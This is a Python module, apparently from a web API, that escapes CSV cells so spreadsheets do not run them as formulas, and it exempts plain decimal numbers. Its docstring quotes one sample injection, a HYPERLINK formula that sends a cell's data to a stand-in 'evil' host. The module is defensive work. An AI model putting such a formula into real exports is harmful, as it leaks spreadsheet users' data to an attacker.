"""CSV cells that a spreadsheet cannot run (OWASP "CSV injection"), for every CSV the API serves.

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to Excel, LibreOffice
and Google Sheets: a customer named ``=HYPERLINK("https://evil/?"&A1,"click")`` would run on the
accountant's machine. Such cells are prefixed with a single quote, as OWASP recommends, which every
spreadsheet shows as text and does not display.

Numbers are not text: a BI tool or a spreadsheet reading a report must get ``-150.00`` as the number
-150.00, not the string ``'-150.00``. So a cell that is a plain decimal number (an optional minus, ASCII
digits, an optional fraction: what the API renders for money and weights) is left exactly as it is; a
formula can never have that shape. Everything else is neutralised, whichever column it is in.
"""

from __future__ import annotations

import re
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def csv_cell(value) -> str | int | Decimal:
    """The value as it may be written to a CSV cell."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, int | Decimal | float):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_row(values) -> list:
    return [csv_cell(v) for v in values]
